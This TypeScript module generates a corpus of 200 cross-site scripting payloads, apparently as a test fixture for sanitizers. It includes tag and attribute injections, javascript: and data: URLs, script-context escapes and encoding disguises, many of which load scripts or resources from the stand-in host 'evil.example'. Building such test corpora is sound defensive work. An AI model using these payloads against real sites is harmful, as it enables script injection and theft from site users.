/** What each of them tries to run; a page under attack has it as a function that tells of every call. */
export const CANARY = 'canary';
/** Where each of them tries to call home. */
const HOME = 'evil.example';

const RUN = `${CANARY}()`;
const TAGS = [
  `<script>${RUN}</script>`,
  `<script src=//${HOME}/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//${HOME}/i.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${RUN}><text x=9 y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN} />#x"/></svg>`,
  `<body onload=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=//${HOME}/></iframe>`,
  `<object data=//${HOME}/x.swf></object>`,
  `<embed src=//${HOME}/x.swf>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=//${HOME}/v autoplay>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction></math>`,
  `<meta http-equiv=refresh content="0;url=//${HOME}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//${HOME}/>`,
  `<link rel=stylesheet href=//${HOME}/x.css>`,
  `<link rel=preload as=image href=//${HOME}/p.png>`,
  `<style>@import '//${HOME}/x.css';</style>`,
  `<style>body{background:url(//${HOME}/b.png)}</style>`,
  `<form action=//${HOME}/><button autofocus>x</button></form>`,
  `<a href=javascript:${RUN} autofocus>x</a>`,
  `<div style="background:url(//${HOME}/s.png)">x</div>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss style=animation-name:x onanimationstart=${RUN}>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<table background=//${HOME}/t.png><td>x`,
  `<isindex type=image src=//${HOME}/q onerror=${RUN}>`,
];

/** Out of where a text may stand: an attribute, a script, a style, an element of raw text, a comment. */
const OUT = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</option></select>',
  '--><!--',
  '</script>',
];
const ATTRIBUTES = [
  `" onmouseover=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `" autofocus onfocus=${RUN} x="`,
  `"autofocus/onfocus="${RUN}`,
  `x onerror=${RUN} y`,
  `" style="background:url(//${HOME}/a.png)`,
  `" formaction="//${HOME}/`,
  `" srcset="//${HOME}/a.png`,
  `" ping="//${HOME}/`,
  `"><"`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `//${HOME}/`,
  `/\\${HOME}/`,
  `https:${HOME}`,
];
const IN_SCRIPTS = [
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `</script><script>${RUN}//`,
  `\u2028${RUN}//`,
  `*/${RUN}/*`,
  `<!--<script>`,
  `]]>${RUN}`,
];
/** Ways to write a sign otherwise. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text.toUpperCase().replaceAll(RUN.toUpperCase(), RUN),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\u000c'),
  (text) => text.replaceAll('<', '<<'),
  (text) => `\u202e${text}`,
];

const told = (n: number, list: readonly string[]): string => list[n % list.length] ?? '';

const all = [
  ...[...TAGS, ...ATTRIBUTES, ...ADDRESSES, ...IN_SCRIPTS],
  ...TAGS.map((tag, n) => told(n + 1, OUT) + tag),
  ...TAGS.map((tag, n) => told(n + 4, OUT) + tag),
  ...Array.from({ length: 99 }, (_, n) =>
    (DISGUISES[n % DISGUISES.length] ?? String)(told(n * 3, OUT) + told(n, TAGS)),
  ),
];

/** 200 texts, of which each would run, load or lead elsewhere if a page took it for more than a text. */
export const PAYLOADS: readonly string[] = [...new Set(all)].slice(0, 200);
